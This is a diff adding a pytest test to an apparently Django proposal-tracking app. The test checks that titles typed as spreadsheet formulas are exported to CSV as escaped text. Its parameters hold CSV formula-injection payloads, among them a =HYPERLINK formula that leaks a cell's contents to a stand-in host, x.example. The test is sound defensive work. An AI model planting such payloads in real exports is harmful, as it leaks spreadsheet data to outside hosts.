@@ -222,3 +222,23 @@ def test_the_proposal_export_is_a_csv_of_the_board(client, people):
     assert response["Content-Type"].startswith("text/csv")
     lines = response.content.decode("utf-8-sig").strip().splitlines()
     assert len(lines) == 4 and "提议2" in response.content.decode("utf-8-sig")
+
+
+@pytest.mark.parametrize(
+    "title", ['=HYPERLINK("http://x.example/?x="&A1,"点击")', "+1+1", "-1+1", "@SUM(A1)", "\t=1"]
+)
+def test_a_formula_typed_as_a_title_is_text_in_the_export(client, people, title):
+    """The hostile test's replay: a proposal titled =HYPERLINK(…) was live in the secretary's spreadsheet."""
+    import csv
+    import io
+
+    services.file_proposal(
+        actor=people["alice"], proposer=member(people["alice"]), title=title, content="内容"
+    )
+    client.force_login(people["sam"])
+    rows = list(
+        csv.reader(io.StringIO(client.get(reverse("motions:proposal_export")).content.decode("utf-8-sig")))
+    )
+    cells = [cell for row in rows for cell in row]
+    assert [c for c in cells if c.startswith("'") and c.endswith(title.strip())]  # the title is there, as text
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
